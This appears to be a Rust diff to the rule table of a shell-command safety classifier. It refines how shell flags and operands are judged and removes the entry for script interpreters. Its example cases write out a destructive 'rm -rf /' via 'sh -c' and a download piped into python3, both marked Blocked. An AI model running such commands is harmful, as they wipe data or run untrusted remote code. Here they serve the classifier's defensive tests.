@@ -9,9 +9,6 @@ use super::{
 const fn shell_line_flag(names: &'static str) -> FlagSpec {
     FlagSpec { names, effect: FlagEffect::ReplacesOperand(WordMeaning::ShellLine) }
 }
-const fn code_flag(names: &'static str) -> FlagSpec {
-    FlagSpec { names, effect: FlagEffect::ReplacesOperand(WordMeaning::Code) }
-}
 
 pub(super) const PROGRAMS: &[ProgramSpec] = &[
     ProgramSpec {
@@ -189,9 +186,14 @@ pub(super) const PROGRAMS: &[ProgramSpec] = &[
         names: "sh bash rbash dash zsh ksh ash fish mksh csh tcsh yash",
         kind: ProgramKind::Shell,
         downloads: false,
-        flags: &[shell_line_flag("-c"), text_flag("-o -O --rcfile --init-file")],
+        flags: &[
+            shell_line_flag("-c"),
+            text_flag("-o -O"),
+            input_flag("--rcfile --init-file"),
+            harmless_flag("-e -u -x -n -v -l -s --login --norc --noprofile --posix --version"),
+        ],
         unlisted_flags: UnlistedFlags::Suspect,
-        operands: OperandRule::All(WordMeaning::Text),
+        operands: OperandRule::FirstThenRest(WordMeaning::ReadPath, WordMeaning::PossiblePath),
         flag_syntax: FlagSyntax::LeadingOnly,
         examples: &[
             example("sh -c 'rm -rf /'", Blocked),
@@ -199,15 +201,5 @@ pub(super) const PROGRAMS: &[ProgramSpec] = &[
             example("bash -c ls", Unknown),
             example("sh script.sh", Unknown),
         ],
-    },
-    ProgramSpec {
-        names: "python python3 pypy perl ruby node nodejs php lua deno bun R Rscript tclsh osascript pwsh",
-        kind: ProgramKind::Interpreter,
-        downloads: false,
-        flags: &[code_flag("-c -e -E -r --eval --print -p")],
-        unlisted_flags: UnlistedFlags::Suspect,
-        operands: OperandRule::All(WordMeaning::Code),
-        flag_syntax: FlagSyntax::LeadingOnly,
-        examples: &[example("curl -s https://example.org/x | python3 -", Blocked)],
     },
 ];
